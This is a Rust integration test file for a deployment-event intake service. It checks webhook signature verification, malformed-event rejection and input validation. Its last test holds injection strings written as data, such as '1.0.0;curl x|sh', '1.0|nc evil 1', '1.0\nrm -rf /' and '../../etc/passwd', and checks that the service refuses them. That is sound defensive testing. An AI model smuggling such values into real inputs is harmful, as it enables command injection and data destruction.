//! Bad input never harms the system: GitHub's published HMAC test vector, wrong secret,
//! missing header and altered body; malformed variants generated from a valid fixture
//! (truncated JSON, wrong types, missing required fields, invalid UTF-8, a 10 MiB body,
//! unknown service, unsupported version, missing token or role) — each answered with the
//! right status and `{error, detail, path}`, nothing in the event stream, one entry in the
//! rejection log, and intake still serving afterwards.

mod common;

use common::{GITHUB_SECRET, Harness, artifact};
use serde_json::{Value, json};

/// Sends through `send`, then checks the status, the path, that nothing reached the stream and
/// that the rejection log grew by one entry from `door`.
async fn refused<F, Fut>(
    harness: &Harness,
    case: &str,
    door: &str,
    status: u16,
    path: &str,
    send: F,
) -> anyhow::Result<Value>
where
    F: FnOnce() -> Fut,
    Fut: std::future::Future<Output = anyhow::Result<(u16, Value)>>,
{
    let before = harness.last_sequence().await?;
    let rejections = harness.rejections().await?.len();
    let (got, answer) = send().await?;
    assert_eq!(got, status, "{case}: status of {answer}");
    assert_eq!(answer["path"], path, "{case}: path of {answer}");
    assert!(
        answer["error"].as_str().is_some_and(|e| !e.is_empty()),
        "{case}: {answer}"
    );
    let detail = answer["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains(": "),
        "{case}: the detail says what is wrong and what to do: {detail}"
    );
    assert_eq!(
        harness.last_sequence().await?,
        before,
        "{case}: nothing may reach the event stream"
    );
    let log = harness.rejections().await?;
    assert_eq!(log.len(), rejections + 1, "{case}: one rejection recorded");
    let entry = &log.last().expect("a rejection").rejection;
    assert_eq!(entry.source, door, "{case}");
    assert!(
        entry.reason.contains(&status.to_string()),
        "{case}: {}",
        entry.reason
    );
    Ok(answer)
}

fn valid() -> Value {
    artifact("bad-1", "orders-api", "9.9.9", json!({ "branch": "main" }))
}

fn auth(harness: &Harness) -> Vec<(&'static str, String)> {
    vec![
        ("authorization", format!("Bearer {}", harness.publisher)),
        ("content-type", "application/json".to_owned()),
    ]
}

#[tokio::test]
async fn github_signatures_are_checked_before_anything_else() -> anyhow::Result<()> {
    let harness = Harness::start().await?;
    let post = |headers: Vec<(&'static str, String)>, body: &'static [u8]| {
        let harness = &harness;
        async move { harness.post("/v1/webhooks/github", &headers, body).await }
    };
    let base = |signature: Option<&str>| {
        let mut headers = vec![
            ("x-github-event", "ping".to_owned()),
            ("x-github-delivery", "d-1".to_owned()),
        ];
        if let Some(signature) = signature {
            headers.push(("x-hub-signature-256", signature.to_owned()));
        }
        headers
    };
    // GitHub's published test vector: the signature verifies, so what is refused is the body
    // ("Hello, World!" is not json), not the signature.
    let vector = "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17";
    assert_eq!(
        railyard_intake::github_signature(GITHUB_SECRET.as_bytes(), b"Hello, World!"),
        vector
    );
    let answer = refused(&harness, "test vector", "github", 400, "", || {
        post(base(Some(vector)), b"Hello, World!")
    })
    .await?;
    assert!(
        answer["detail"].as_str().unwrap().contains("not json"),
        "{answer}"
    );

    let wrong = railyard_intake::github_signature(b"not the secret", b"{\"zen\": \"x\"}");
    refused(
        &harness,
        "wrong secret",
        "github",
        401,
        "X-Hub-Signature-256",
        || post(base(Some(&wrong)), b"{\"zen\": \"x\"}"),
    )
    .await?;
    refused(
        &harness,
        "missing header",
        "github",
        401,
        "X-Hub-Signature-256",
        || post(base(None), b"{\"zen\": \"x\"}"),
    )
    .await?;
    let signed = railyard_intake::github_signature(GITHUB_SECRET.as_bytes(), b"{\"zen\": \"x\"}");
    refused(
        &harness,
        "altered body",
        "github",
        401,
        "X-Hub-Signature-256",
        || post(base(Some(&signed)), b"{\"zen\": \"y\"}"),
    )
    .await?;
    refused(
        &harness,
        "not a signature",
        "github",
        401,
        "X-Hub-Signature-256",
        || post(base(Some("sha1=abc")), b"{}"),
    )
    .await?;

    // Correctly signed, it is answered.
    let (status, answer) = harness.github("ping", "d-2", b"{\"zen\": \"x\"}").await?;
    assert_eq!(
        (status, answer["outcome"].as_str()),
        (202, Some("ignored")),
        "{answer}"
    );
    // A signed payload of the wrong shape names the field.
    refused(
        &harness,
        "wrong shape",
        "github",
        422,
        "workflow_run",
        || {
            harness.github(
                "workflow_run",
                "d-3",
                br#"{"action": "completed", "repository": {"html_url": "x"}}"#,
            )
        },
    )
    .await?;
    Ok(())
}

#[tokio::test]
async fn malformed_cdevents_are_refused_with_the_field_to_fix() -> anyhow::Result<()> {
    let harness = Harness::start().await?;
    let text = serde_json::to_string(&valid())?;
    let mutate = |f: &dyn Fn(&mut Value)| {
        let mut event = valid();
        f(&mut event);
        serde_json::to_vec(&event).expect("json")
    };
    let cases: Vec<(&str, u16, &str, Vec<u8>)> = vec![
        (
            "truncated json",
            400,
            "",
            text.as_bytes()[..text.len() / 2].to_vec(),
        ),
        (
            "invalid utf-8",
            400,
            "",
            [b"{\"context\": \"".as_slice(), &[0xff, 0xfe], b"\"}"].concat(),
        ),
        (
            "wrong type",
            422,
            "subject.id",
            mutate(&|e| e["subject"]["id"] = json!(42)),
        ),
        (
            "missing required field",
            422,
            "context.id",
            mutate(&|e| {
                e["context"].as_object_mut().expect("context").remove("id");
            }),
        ),
        (
            "missing context",
            422,
            "context",
            br#"{"subject": {}}"#.to_vec(),
        ),
        (
            "unsupported version",
            422,
            "context.specversion",
            mutate(&|e| e["context"]["specversion"] = json!("0.3.0")),
        ),
        (
            "wrong type version",
            422,
            "context.type",
            mutate(&|e| e["context"]["type"] = json!("dev.cdevents.artifact.published.0.1.0")),
        ),
        (
            "unknown service named",
            422,
            "customData.railyard.service",
            mutate(&|e| e["customData"]["railyard"]["service"] = json!("nope")),
        ),
        (
            "unknown railyard field",
            422,
            "customData.railyard.requested_by",
            mutate(&|e| e["customData"]["railyard"]["requested_by"] = json!("mallory")),
        ),
        (
            "bad contract range",
            422,
            "customData.railyard.consumes.orders-events",
            mutate(&|e| {
                e["customData"]["railyard"]["consumes"] = json!({"orders-events": "3..1x"})
            }),
        ),
        (
            "grouping without release",
            422,
            "customData.railyard.release",
            mutate(&|e| e["customData"]["railyard"]["expected_changes"] = json!(["orders-api"])),
        ),
        ("not an object", 422, "", b"[1, 2]".to_vec()),
    ];
    for (case, status, path, body) in cases {
        let headers = auth(&harness);
        let answer = refused(&harness, case, "cdevents", status, path, || {
            harness.post("/v1/cdevents", &headers, body.clone())
        })
        .await?;
        // The same input over NATS is refused the same way.
        let before = harness.last_sequence().await?;
        let reply = harness.nats(&[], body).await?;
        assert_eq!(reply["status"], status, "{case} over nats: {reply}");
        assert_eq!(reply["path"], answer["path"], "{case} over nats");
        assert_eq!(harness.last_sequence().await?, before, "{case} over nats");
    }

    // 10 MiB: refused as too large before it is read whole.
    let huge = vec![b' '; 10 * 1024 * 1024];
    let headers = auth(&harness);
    let answer = refused(&harness, "10 MiB body", "cdevents", 413, "", || {
        harness.post("/v1/cdevents", &headers, huge)
    })
    .await?;
    assert!(
        answer["detail"].as_str().unwrap().contains("1048576"),
        "{answer}"
    );

    // Authentication and roles.
    refused(
        &harness,
        "no token",
        "cdevents",
        401,
        "Authorization",
        || harness.post("/v1/cdevents", &[], text.clone()),
    )
    .await?;
    let auditor = [("authorization", format!("Bearer {}", harness.auditor))];
    refused(
        &harness,
        "no publisher role",
        "cdevents",
        403,
        "Authorization",
        || harness.post("/v1/cdevents", &auditor, text.clone()),
    )
    .await?;
    let stranger = [("authorization", "Bearer ry_not-a-token".to_owned())];
    refused(
        &harness,
        "unknown token",
        "cdevents",
        401,
        "Authorization",
        || harness.post("/v1/cdevents", &stranger, text.clone()),
    )
    .await?;

    // Still serving: the valid event is accepted.
    let (status, answer) = harness.cdevent(&valid()).await?;
    assert_eq!(
        (status, answer["outcome"].as_str()),
        (202, Some("accepted")),
        "{answer}"
    );
    Ok(())
}

/// Versions and artifacts reach deploy commands and URLs, so shell, paths, control characters
/// and oversized values are refused at every door — CDEvents over HTTP and NATS, and release
/// submission — with a 422 naming the field, and nothing is appended.
#[tokio::test]
async fn hostile_versions_and_artifacts_are_refused_at_every_door() -> anyhow::Result<()> {
    let harness = Harness::start().await?;
    let long = "1".repeat(10 * 1024);
    let hostile = [
        "1.0.0;curl x|sh",
        "$(id)",
        "`id`",
        "1.0|nc evil 1",
        "1.0\nrm -rf /",
        "../../etc/passwd",
        "1.0\u{0}",
        long.as_str(),
    ];
    for (i, version) in hostile.iter().enumerate() {
        let case = format!("cdevents version {version:?}");
        // In customData: the path names it.
        let body = serde_json::to_vec(&artifact(
            &format!("hostile-{i}"),
            "orders-api",
            "9.9.9",
            json!({ "branch": "main", "version": version }),
        ))?;
        let headers = auth(&harness);
        refused(
            &harness,
            &case,
            "cdevents",
            422,
            "customData.railyard.version",
            || harness.post("/v1/cdevents", &headers, body.clone()),
        )
        .await?;
        let before = harness.last_sequence().await?;
        let reply = harness.nats(&[], body).await?;
        assert_eq!(reply["status"], 422, "{case} over nats: {reply}");
        assert_eq!(reply["path"], "customData.railyard.version", "{case}");
        assert_eq!(harness.last_sequence().await?, before, "{case} over nats");

        // In a release file.
        let release = json!({
            "id": format!("rel-hostile-{i}"),
            "changes": [{"service": "orders-api", "version": version}],
        });
        let headers = auth(&harness);
        let body = serde_json::to_vec(&release)?;
        let answer = refused(
            &harness,
            &format!("release version {version:?}"),
            "releases",
            422,
            "release.changes[0].version",
            || harness.post("/v1/releases", &headers, body),
        )
        .await?;
        let detail = answer["detail"].as_str().unwrap_or_default();
        assert!(
            detail.contains("allowed are") || detail.contains("over the limit of 128"),
            "the detail says what is allowed: {answer}"
        );
    }
    // An artifact with shell in it, in the purl itself.
    let mut event = artifact(
        "hostile-purl",
        "orders-api",
        "9.9.9",
        json!({ "branch": "main" }),
    );
    event["subject"]["id"] = json!("pkg:oci/orders-api@9.9.9;id");
    let headers = auth(&harness);
    let body = serde_json::to_vec(&event)?;
    refused(
        &harness,
        "hostile purl",
        "cdevents",
        422,
        "subject.id",
        || harness.post("/v1/cdevents", &headers, body),
    )
    .await?;
    Ok(())
}
